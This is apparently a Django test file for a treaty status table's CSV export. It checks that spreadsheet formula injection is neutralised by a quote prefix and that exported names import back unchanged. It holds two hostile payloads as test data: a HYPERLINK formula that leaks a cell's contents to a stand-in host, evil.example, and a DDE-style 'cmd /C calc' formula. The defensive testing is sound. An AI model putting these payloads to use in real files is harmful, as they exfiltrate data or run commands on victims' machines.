"""The public status table's CSV export: a hostile name cannot become a formula in the
spreadsheet of whoever downloads it, and the file imports back as it was."""

import csv
import io
from datetime import date

from django.test import Client

from convene.treaty import services
from convene.treaty.models import Signature
from tests.treaty.conftest import HANOI

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_a_hostile_signatory_name_comes_out_of_the_csv_as_text(treaty, depositary, states):
    services.record_signature(depositary, states["VNM"], signed_on=date(2025, 10, 25),
                              place=HANOI, signatory_name=HOSTILE, capacity="head_of_state")
    services.record_signature(depositary, states["FRA"], signed_on=date(2025, 10, 25),
                              place=HANOI, signatory_name="@SUM(1+1)*cmd|' /C calc'!A0",
                              capacity="foreign_minister")
    response = Client().get("/treaty/status.csv")
    assert response["Content-Disposition"].startswith("attachment;")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # spreadsheets read the names in every script right
    rows = {r["code"]: r for r in csv.DictReader(io.StringIO(text.lstrip("\ufeff")))}
    assert rows["VNM"]["signatory"] == "'" + HOSTILE
    assert rows["FRA"]["signatory"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["VNM"]["signature"] == "2025-10-25"  # dates stay dates

    # Imported back into an empty record, the names are what the depositary typed.
    Signature.objects.all().delete()
    result = services.import_status_table(depositary, response.content)
    assert result.ok, result.errors
    assert set(Signature.objects.values_list("signatory_name", flat=True)) == {
        HOSTILE, "@SUM(1+1)*cmd|' /C calc'!A0"}


def test_the_status_table_imports_from_excel_too(treaty, depositary, states):
    from tests.files import xlsx_bytes

    book = xlsx_bytes([["code", "signature", "signatory", "capacity"],
                       ["VNM", date(2025, 10, 25), "H.E. Someone", "head_of_state"]])
    result = services.import_status_table(depositary, book)
    assert result.ok, result.errors
    assert Signature.objects.get().signed_on == date(2025, 10, 25)
